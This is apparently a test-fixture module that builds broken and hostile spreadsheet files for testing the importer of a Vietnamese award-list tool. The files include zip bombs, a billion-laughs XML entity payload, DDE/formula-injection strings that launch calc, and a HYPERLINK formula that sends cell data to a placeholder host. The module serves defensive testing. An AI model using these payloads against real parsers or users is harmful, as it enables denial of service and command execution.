/**
 * The catalogue of bad inputs (issue 6), generated in memory so nothing big is ever committed:
 * every way a unit's file can arrive broken, encrypted, huge or hostile, next to one good award
 * list that must still be read in the same batch. Node only (zlib, SheetJS writer); never imported
 * by src/.
 */
import * as XLSX from "@e965/xlsx";
import { encodeTcvn3 } from "../../src/core/text/legacy";
import { zip, type ZipEntry } from "./zip";

/** The good unit: three individuals with Giấy khen, as a district's commune sends them. */
export const GOOD_NAMES = ["Nguyễn Văn An", "Lò Thị Bình", "Quàng Văn Cường"];
export const GOOD_FILE = "00-xa-tan-lap.xlsx";

export const HEADER = ["STT", "Họ và tên", "Chức vụ, đơn vị công tác", "Hình thức khen thưởng", "Số, ngày quyết định"];

/** A small award list (title block, header, items) as rows of text. */
export function awardRows(names: string[] = GOOD_NAMES, awards: string[] = []): (string | number)[][] {
  return [
    ["UBND XÃ TÂN LẬP"],
    ["DANH SÁCH CÁ NHÂN ĐƯỢC KHEN THƯỞNG 6 THÁNG ĐẦU NĂM 2024"],
    [],
    HEADER,
    ...names.map((n, i) => [i + 1, n, "Công chức văn hóa - xã hội, UBND xã Tân Lập", awards[i] ?? "Giấy khen", "112/QĐ-UBND ngày 15/3/2024"]),
  ];
}

/** SheetJS-written workbook bytes of some rows (.xlsx or .xls BIFF8). */
export function workbookFromRows(rows: (string | number)[][], bookType: "xlsx" | "biff8" = "xlsx", sheet = "DS khen thưởng"): Uint8Array {
  const wb = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet(rows), sheet);
  return new Uint8Array(XLSX.write(wb, { type: "array", bookType, compression: true }) as ArrayBuffer);
}

export function goodWorkbook(): Uint8Array {
  return workbookFromRows(awardRows());
}

/** CSV text of rows, quoting fields as a spreadsheet program does. */
export function csvOf(rows: (string | number)[][]): string {
  const q = (v: string | number) => {
    const s = String(v);
    return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
  };
  return rows.map((r) => r.map(q).join(",")).join("\r\n") + "\r\n";
}

// ---------------------------------------------------------------------------------------------
// Hand-made .xlsx packages: what no spreadsheet program writes

const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`;
const ROOT_RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`;
const WORKBOOK = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="DS khen thưởng" sheetId="1" r:id="rId1"/></sheets></workbook>`;
const WORKBOOK_RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`;

function colName(c: number): string {
  let s = "";
  for (let n = c + 1; n > 0; n = Math.floor((n - 1) / 26)) s = String.fromCharCode(65 + ((n - 1) % 26)) + s;
  return s;
}

/** XML text escape, with OOXML's _xHHHH_ for control characters (how Excel stores them). */
function xmlText(s: string): string {
  return s
    .replace(/&/g, "&amp;")
    .replace(/</g, "&lt;")
    .replace(/>/g, "&gt;")
    // eslint-disable-next-line no-control-regex -- escapes exactly the control characters XML forbids
    .replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F]/g, (ch) => `_x${ch.charCodeAt(0).toString(16).padStart(4, "0").toUpperCase()}_`);
}

/** One row of sheet XML: numbers as <v>, text as inline strings (always text, never a formula). */
export function rowXml(r: number, values: (string | number | undefined)[]): string {
  let cells = "";
  values.forEach((v, c) => {
    if (v === undefined || v === "") return;
    const ref = `${colName(c)}${r + 1}`;
    cells += typeof v === "number" ? `<c r="${ref}"><v>${v}</v></c>` : `<c r="${ref}" t="inlineStr"><is><t xml:space="preserve">${xmlText(v)}</t></is></c>`;
  });
  return `<row r="${r + 1}">${cells}</row>`;
}

export function sheetXml(rowsXml: string, opts: { prolog?: string; merges?: string[] } = {}): string {
  const merges = opts.merges?.length ? `<mergeCells count="${opts.merges.length}">${opts.merges.map((m) => `<mergeCell ref="${m}"/>`).join("")}</mergeCells>` : "";
  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>${opts.prolog ?? ""}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rowsXml}</sheetData>${merges}</worksheet>`;
}

/** A one-sheet .xlsx package from sheet XML, with optional overrides and extra entries. */
export function xlsxPackage(sheet: string, opts: { sheetEntry?: Partial<ZipEntry>; extra?: ZipEntry[] } = {}): Uint8Array {
  return zip([
    { name: "[Content_Types].xml", data: CONTENT_TYPES },
    { name: "_rels/.rels", data: ROOT_RELS },
    { name: "xl/workbook.xml", data: WORKBOOK },
    { name: "xl/_rels/workbook.xml.rels", data: WORKBOOK_RELS },
    { name: "xl/worksheets/sheet1.xml", data: sheet, ...opts.sheetEntry },
    ...(opts.extra ?? []),
  ]);
}

export function xlsxFromRows(rows: (string | number | undefined)[][], merges?: string[]): Uint8Array {
  return xlsxPackage(sheetXml(rows.map((r, i) => rowXml(i, r)).join(""), { merges }));
}

// ---------------------------------------------------------------------------------------------
// Encodings

let cp1258Table: Map<string, number> | undefined;
/** Text -> Windows-1258 bytes (precomposed where the code page has the letter, else base + tone mark). */
export function encodeCp1258(text: string): Uint8Array {
  if (!cp1258Table) {
    cp1258Table = new Map();
    const dec = new TextDecoder("windows-1258");
    for (let b = 0; b < 256; b++) cp1258Table.set(dec.decode(new Uint8Array([b])), b);
  }
  const table = cp1258Table;
  const out: number[] = [];
  for (const ch of text.normalize("NFC")) {
    const direct = table.get(ch);
    if (direct !== undefined) {
      out.push(direct);
      continue;
    }
    // "ữ" = u + horn + tilde, "ậ" = a + dot below + circumflex: the code page has "ư" and "â" as
    // one byte each, and the tone mark as another
    const [base, ...marks] = [...ch.normalize("NFD")];
    const k = marks.findIndex((m) => table.has((base + m).normalize("NFC")));
    const start = k >= 0 ? [(base + marks[k]).normalize("NFC"), ...marks.filter((_, i) => i !== k)] : [base, ...marks];
    for (const p of start) {
      const b = table.get(p);
      if (b === undefined) throw new Error(`not in code page 1258: ${JSON.stringify(p)}`);
      out.push(b);
    }
  }
  return new Uint8Array(out);
}

/** Text typed in a TCVN3 (.VnTime) font, saved as one byte per character. */
export function encodeTcvn3Bytes(text: string): Uint8Array {
  const latin1 = encodeTcvn3(text);
  return new Uint8Array([...latin1].map((c) => c.charCodeAt(0)));
}

// ---------------------------------------------------------------------------------------------
// The catalogue

export interface BadInput {
  id: string;
  /** what it is, for the test's title */
  what: string;
  file: string;
  make: () => Uint8Array;
  /** the reader's verdict: an error (file refused) or a warning (file read) */
  expect: { kind: "error" | "warning"; vi: RegExp; en: RegExp };
  /** for files read with a warning: recipient names the good rows must yield */
  names?: string[];
}

/** An encrypted Office package: the OLE container Excel writes for a workbook with a password. */
export function encryptedWorkbook(): Uint8Array {
  const CFB = (XLSX as unknown as { CFB: any }).CFB;
  const cfb = CFB.utils.cfb_new();
  CFB.utils.cfb_add(cfb, "/EncryptionInfo", new Uint8Array([4, 0, 4, 0, 0x40, 0, 0, 0, 1, 2, 3, 4]));
  CFB.utils.cfb_add(cfb, "/EncryptedPackage", new Uint8Array(64));
  return new Uint8Array(CFB.write(cfb, { type: "array" }));
}

const BILLION_LAUGHS =
  '<!DOCTYPE lolz [<!ENTITY lol "lol">' +
  Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ""};`.repeat(10)}">`).join("") +
  "]>";

/** Sheet XML of `mb` megabytes of one repeated byte: the payload of a zip bomb. */
function bombPayload(mb: number): Uint8Array {
  return new Uint8Array(mb * 1024 * 1024).fill(0x20);
}

export const FORMULA_TEXTS = ['=HYPERLINK("http://example.invalid/?x="&A1,"Nguyễn Văn An")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1"];

export const CATALOGUE: BadInput[] = [
  {
    id: "zero-byte",
    what: "a zero-byte file",
    file: "01-xa-rong.xlsx",
    make: () => new Uint8Array(0),
    expect: { kind: "error", vi: /^Tệp "01-xa-rong\.xlsx" rỗng \(0 byte\)/, en: /^File "01-xa-rong\.xlsx" is empty/ },
  },
  {
    id: "truncated-zip",
    what: "a .xlsx cut off half way (an interrupted download)",
    file: "02-xa-tai-do.xlsx",
    make: () => {
      const b = xlsxFromRows(awardRows());
      return b.subarray(0, Math.floor(b.length / 2));
    },
    expect: { kind: "error", vi: /^Tệp "02-xa-tai-do\.xlsx" bị hỏng hoặc chưa tải về đủ/, en: /^File "02-xa-tai-do\.xlsx" is damaged or incompletely downloaded/ },
  },
  {
    id: "corrupt-zip",
    what: "a .xlsx whose compressed sheet is overwritten",
    file: "03-xa-hong.xlsx",
    make: () => {
      const b = xlsxFromRows(awardRows()).slice();
      // the sheet entry's data start: after its local header ("xl/worksheets/sheet1.xml")
      const name = new TextEncoder().encode("xl/worksheets/sheet1.xml");
      const at = indexOf(b, name) + name.length;
      b.fill(0xff, at, at + 64);
      return b;
    },
    expect: { kind: "error", vi: /^Tệp "03-xa-hong\.xlsx" bị hỏng/, en: /^File "03-xa-hong\.xlsx" is damaged/ },
  },
  {
    id: "xls-named-xlsx",
    what: "a .xlsx that is really an Excel 97-2003 .xls",
    file: "04-xa-doi-ten.xlsx",
    make: () => workbookFromRows(awardRows(), "biff8"),
    expect: {
      kind: "warning",
      vi: /^Tệp "04-xa-doi-ten\.xlsx" có đuôi \.xlsx nhưng thực chất là bảng tính Excel 97-2003 \.xls/,
      en: /^File "04-xa-doi-ten\.xlsx" is named \.xlsx but is really an Excel 97-2003 \.xls workbook/,
    },
    names: GOOD_NAMES,
  },
  {
    id: "csv-named-xlsx",
    what: "a .xlsx that is really a CSV text file",
    file: "05-xa-csv.xlsx",
    make: () => new TextEncoder().encode(csvOf(awardRows())),
    expect: {
      kind: "warning",
      vi: /^Tệp "05-xa-csv\.xlsx" có đuôi \.xlsx nhưng thực chất là tệp văn bản CSV/,
      en: /^File "05-xa-csv\.xlsx" is named \.xlsx but is really a CSV text file/,
    },
    names: GOOD_NAMES,
  },
  {
    id: "encrypted",
    what: "a password-protected (encrypted) workbook",
    file: "06-xa-mat-khau.xlsx",
    make: encryptedWorkbook,
    expect: { kind: "error", vi: /^Tệp "06-xa-mat-khau\.xlsx" được đặt mật khẩu/, en: /^File "06-xa-mat-khau\.xlsx" is password-protected/ },
  },
  {
    id: "encrypted-zip-entry",
    what: "a zip package whose entries are encrypted (zip password)",
    file: "06b-xa-zip-mat-khau.xlsx",
    make: () => xlsxPackage(sheetXml(awardRows().map((r, i) => rowXml(i, r)).join("")), { sheetEntry: { flags: 1 } }),
    expect: { kind: "error", vi: /^Tệp "06b-xa-zip-mat-khau\.xlsx" được đặt mật khẩu/, en: /password-protected/ },
  },
  {
    id: "empty-workbook",
    what: "an empty workbook (one sheet, no cell)",
    file: "07-xa-trong.xlsx",
    make: () => xlsxPackage(sheetXml("")),
    expect: { kind: "warning", vi: /^Tệp "07-xa-trong\.xlsx" không có dữ liệu/, en: /^File "07-xa-trong\.xlsx" holds no data/ },
  },
  {
    id: "zip-bomb",
    what: "a zip bomb: 200 MB of spaces packed ~1000:1, sizes declared honestly",
    file: "13-xa-bom-nen.xlsx",
    make: () => xlsxPackage(sheetXml(""), { extra: [{ name: "xl/media/image1.xml", data: bombPayload(200), level: 9 }] }),
    expect: { kind: "error", vi: /^Tệp "13-xa-bom-nen\.xlsx" có cấu trúc nén bất thường \(nén \d+:1, giới hạn 400:1\)/, en: /zip bomb/ },
  },
  {
    id: "zip-bomb-lying",
    what: "a zip bomb whose headers declare 1 000 bytes (SheetJS would inflate it all)",
    file: "13b-xa-bom-nen.xlsx",
    make: () => xlsxPackage(sheetXml(""), { extra: [{ name: "xl/media/image1.xml", data: bombPayload(20), level: 9, declaredSize: 1000 }] }),
    expect: { kind: "error", vi: /^Tệp "13b-xa-bom-nen\.xlsx" có cấu trúc nén bất thường \(kích thước khai báo sai\)/, en: /declared sizes are false/ },
  },
  {
    id: "zip-bomb-size-zero",
    what: "a zip entry that declares size 0 (SheetJS would grow its buffer without end)",
    file: "13c-xa-bom-nen.xlsx",
    make: () => xlsxPackage(sheetXml(""), { extra: [{ name: "xl/media/image1.xml", data: bombPayload(5), declaredSize: 0 }] }),
    expect: { kind: "error", vi: /^Tệp "13c-xa-bom-nen\.xlsx" có cấu trúc nén bất thường/, en: /zip bomb/ },
  },
  {
    id: "xml-entity-expansion",
    what: "XML entity expansion (billion laughs) in the sheet XML",
    file: "14-xa-thuc-the.xlsx",
    make: () => xlsxPackage(sheetXml(rowXml(0, ["&lol9;"]).replace("&amp;lol9;", "&lol9;"), { prolog: BILLION_LAUGHS })),
    expect: {
      kind: "error",
      vi: /^Tệp "14-xa-thuc-the\.xlsx" chứa khai báo DOCTYPE\/ENTITY của XML \(phần xl\/worksheets\/sheet1\.xml\)/,
      en: /^File "14-xa-thuc-the\.xlsx" contains an XML DOCTYPE\/ENTITY declaration/,
    },
  },
  {
    id: "xml-entity-expansion-xml2003",
    what: "XML entity expansion in an XML Spreadsheet 2003 file named .xls",
    file: "14b-xa-thuc-the.xls",
    make: () =>
      new TextEncoder().encode(
        `<?xml version="1.0"?>${BILLION_LAUGHS}<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="DS"><Table><Row><Cell><Data ss:Type="String">&lol9;</Data></Cell></Row></Table></Worksheet></Workbook>`,
      ),
    expect: { kind: "error", vi: /^Tệp "14b-xa-thuc-the\.xls" chứa khai báo DOCTYPE\/ENTITY/, en: /DOCTYPE\/ENTITY declaration/ },
  },
  {
    id: "control-characters",
    what: "control characters inside names (BEL, NUL, ESC), stored as Excel stores them (_x0007_)",
    file: "16-xa-ky-tu-an.xlsx",
    make: () => xlsxFromRows(awardRows(["Nguyễn\u0007 Văn An", "Lò Thị\u0000 Bình", "Quàng \u001bVăn Cường"])),
    expect: {
      kind: "warning",
      vi: /^Tệp "16-xa-ky-tu-an\.xlsx" có 3 ô chứa ký tự điều khiển vô hình \(đầu tiên: DS khen thưởng!B5\)/,
      en: /^File "16-xa-ky-tu-an\.xlsx" has 3 cells with invisible control characters/,
    },
    names: GOOD_NAMES,
  },
  {
    id: "control-characters-csv",
    what: "control characters inside a CSV",
    file: "16b-xa-ky-tu-an.csv",
    make: () => new TextEncoder().encode(csvOf(awardRows(["Nguyễn Văn An\u0008", "Lò Thị Bình", "Quàng Văn Cường"]))),
    expect: { kind: "warning", vi: /^Tệp "16b-xa-ky-tu-an\.csv" có 1 ô chứa ký tự điều khiển/, en: /invisible control characters/ },
    names: GOOD_NAMES,
  },
  {
    id: "csv-windows-1258",
    what: "a CSV saved by Excel on Vietnamese Windows (code page 1258, not UTF-8)",
    file: "17-xa-cp1258.csv",
    make: () => encodeCp1258(csvOf(awardRows())),
    expect: {
      kind: "warning",
      vi: /^Tệp "17-xa-cp1258\.csv" không lưu theo UTF-8: đã đọc theo bảng mã Windows-1258/,
      en: /^File "17-xa-cp1258\.csv" is not UTF-8: it was read as code page Windows-1258/,
    },
    names: GOOD_NAMES,
  },
  {
    id: "csv-tcvn3",
    what: "a CSV typed in a TCVN3 (.VnTime) font, one byte per letter",
    file: "17b-xa-tcvn3.csv",
    make: () => encodeTcvn3Bytes(csvOf(awardRows())),
    expect: {
      kind: "warning",
      vi: /^Tệp "17b-xa-tcvn3\.csv" không lưu theo UTF-8 mà theo bảng mã cũ một byte \(TCVN3\/VNI\)/,
      en: /^File "17b-xa-tcvn3\.csv" is not UTF-8 but a legacy one-byte encoding \(TCVN3\/VNI\)/,
    },
    names: GOOD_NAMES,
  },
  {
    id: "over-50mb",
    what: "a file over 50 MB",
    file: "12-xa-qua-lon.xlsx",
    make: () => {
      const b = new Uint8Array(50 * 1024 * 1024 + 1);
      b.set([0x50, 0x4b, 0x03, 0x04]);
      return b;
    },
    expect: { kind: "error", vi: /^Tệp "12-xa-qua-lon\.xlsx" quá lớn \(50\.0 MB, giới hạn 50\.0 MB\)/, en: /^File "12-xa-qua-lon\.xlsx" is too large/ },
  },
];

/**
 * Inputs that are read without error or warning but must stay harmless: structure the layout
 * finds no table in, huge widths, and text that looks like formulas.
 */
export function onlyMergedTitles(): Uint8Array {
  return xlsxFromRows(
    [["UBND XÃ TÂN LẬP"], ["CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM"], ["DANH SÁCH KHEN THƯỞNG 6 THÁNG ĐẦU NĂM 2024"]],
    ["A1:F1", "A2:F2", "A3:F3"],
  );
}

export function headerOnly(): Uint8Array {
  return xlsxFromRows(awardRows([]));
}

/**
 * The good award list widened to 300 columns: after its own five and a blank one, 294 columns of
 * numbers with no heading, as when a unit pastes a tracking grid next to its list.
 */
export function threeHundredColumns(): Uint8Array {
  const rows = awardRows().map((r, i) => {
    const wide: (string | number | undefined)[] = [...r];
    if (i > 3) for (let c = r.length + 1; c < 300; c++) wide[c] = (c * i) % 7;
    return wide;
  });
  return xlsxFromRows(rows);
}

/** The good list, then a million rows of numbers in column A (~54 MB of sheet XML, ~7 MB packed). */
export function millionRows(): Uint8Array {
  const rows = awardRows();
  const parts: string[] = rows.map((r, i) => rowXml(i, r));
  for (let r = rows.length; r < 1_000_000; r++) parts.push(`<row r="${r + 1}"><c r="A${r + 1}"><v>${r}</v></c></row>`);
  return xlsxPackage(sheetXml(parts.join("")), { sheetEntry: { level: 1 } });
}

/**
 * A 49 MB workbook that is legitimate: the good list plus a scanned page (incompressible, stored) —
 * the largest a file can be and still be read.
 */
export function nearLimitWorkbook(): Uint8Array {
  const scan = new Uint8Array(49 * 1024 * 1024);
  let seed = 20240628;
  for (let i = 0; i < scan.length; i += 4) {
    seed = (seed * 1664525 + 1013904223) >>> 0;
    scan[i] = seed & 0xff;
    scan[i + 1] = (seed >>> 8) & 0xff;
    scan[i + 2] = (seed >>> 16) & 0xff;
    scan[i + 3] = seed >>> 24;
  }
  return xlsxPackage(sheetXml(awardRows().map((r, i) => rowXml(i, r)).join("")), { extra: [{ name: "xl/media/image1.png", data: scan, method: 0 }] });
}

function indexOf(hay: Uint8Array, needle: Uint8Array): number {
  outer: for (let i = 0; i + needle.length <= hay.length; i++) {
    for (let j = 0; j < needle.length; j++) if (hay[i + j] !== needle[j]) continue outer;
    return i;
  }
  return -1;
}

